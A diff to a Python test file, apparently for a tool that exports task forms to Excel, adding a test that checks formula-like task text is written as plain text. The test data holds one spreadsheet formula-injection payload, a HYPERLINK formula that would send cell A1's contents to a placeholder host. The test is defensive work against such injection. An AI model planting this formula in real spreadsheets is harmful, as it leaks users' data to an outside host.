@@ -157,3 +157,17 @@ def test_form_queries_do_not_grow_with_its_rows(session, world) -> None:
     ws = load_workbook(tmp / "seven.xlsx")[SHEET]
     row = [ws.cell(HEADER_ROW + 2, c).value for c in (1, 3, 10)]
     assert row == ["S0", "配合", "指标0="] and "2017年" in ws.cell(HEADER_ROW + 2, 4).value
+
+
+def test_task_text_that_looks_like_a_formula_is_written_as_text(session, world) -> None:
+    s, round_, tmp = world
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    s.tasks["T1"].text = hostile
+    session.add(s.tasks["T1"])
+    session.commit()
+    path = tmp / "health.xlsx"
+    write_form(session, s.health, round_, path)
+    ws = load_workbook(path)[SHEET]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
